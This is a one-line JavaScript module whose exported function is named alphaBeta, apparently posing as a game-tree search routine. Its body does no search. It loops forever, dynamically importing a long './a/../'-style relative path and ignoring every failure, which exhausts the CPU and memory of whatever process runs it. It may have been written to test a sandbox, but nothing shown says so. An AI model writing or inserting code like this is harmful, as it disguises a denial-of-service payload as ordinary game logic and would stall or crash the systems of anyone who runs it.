export function alphaBeta(game, state) { const name = './' + 'a/../'.repeat(190); for (;;) import(name).catch(() => 0); }
